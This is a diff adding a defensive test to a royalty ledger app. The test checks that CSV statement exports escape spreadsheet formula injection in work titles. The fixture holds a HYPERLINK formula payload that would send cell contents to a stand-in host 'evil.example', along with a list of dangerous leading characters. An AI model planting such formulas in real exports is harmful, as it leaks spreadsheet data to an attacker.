@@ -167,3 +167,45 @@ def test_the_owner_proposes_through_the_form_and_errors_are_shown(client, creato
         f"/works/{work.pk}/splits/1/accept", {"signature": "0x00"}, content_type="application/json"
     )
     assert response.status_code == 400 and "not a valid EIP-712 signature" in response.json()["error"]
+
+
+def test_the_statement_never_writes_a_formula_from_a_title(client, creator, upstream_creator):
+    """A derivative's title reaches the upstream creator's statement: it is written as text."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
+    mine = work_row(creator.user, creator.address, title="@SUM(1+1)")
+    sold = work_row(upstream_creator.user, upstream_creator.address, title=evil)
+    ledger_post_many(
+        [
+            EntrySpec(
+                key="sale:evil",
+                kind="sale",
+                occurred_at=timezone.now(),
+                legs=[
+                    Leg(Kind.BUYER_PAID, BUYER, -500),
+                    Leg(
+                        Kind.CREDITED,
+                        creator.address,
+                        500,
+                        earning=True,
+                        meta={"role": "upstream", "sold_work_id": sold.pk, "work_id": mine.pk, "gross": 5000},
+                    ),
+                ],
+            ),
+            EntrySpec(
+                key="sale:evil:reversal",
+                kind="reversal",
+                occurred_at=timezone.now(),
+                legs=[
+                    Leg(Kind.BUYER_PAID, BUYER, 500),
+                    Leg(Kind.CREDITED, creator.address, -500, earning=True, meta={"role": "upstream"}),
+                ],
+            ),
+        ]
+    )
+    client.force_login(creator.user)
+    rows = _csv(client)
+    sale = next(r for r in rows if r[2].endswith(evil))
+    assert sale[2] == "'" + evil and sale[3] == "'@SUM(1+1)"
+    reversal = next(r for r in rows if r[-1] == "reversal")
+    assert reversal[10] == "-500" and reversal[11] == "-0.0000000000000005"  # numbers stay numbers
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
